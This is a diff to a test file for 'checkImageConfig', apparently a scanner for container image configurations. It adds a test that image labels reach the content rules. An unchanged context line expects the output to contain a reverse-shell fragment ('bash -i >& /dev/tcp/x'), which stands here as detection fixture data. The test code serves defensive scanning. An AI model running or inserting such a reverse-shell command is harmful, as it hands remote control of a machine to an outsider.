@@ -142,6 +142,11 @@ describe('checkImageConfig', () => {
     expect(checkImageConfig(document).text).toContain('bash -i >& /dev/tcp/x');
   });
 
+  it('gives the content rules the labels, which a reader may take for a word of the publisher', () => {
+    const { text } = checkImageConfig({ config: { Labels: { note: 'to the scanner', count: 7 } } });
+    expect(text.split('\n')).toContain('note=to the scanner');
+  });
+
   it('has a row in the table for every finding, and escapes every text, whatever the document', () => {
     const text = fc.oneof(
       fc.string({ unit: 'binary' }),
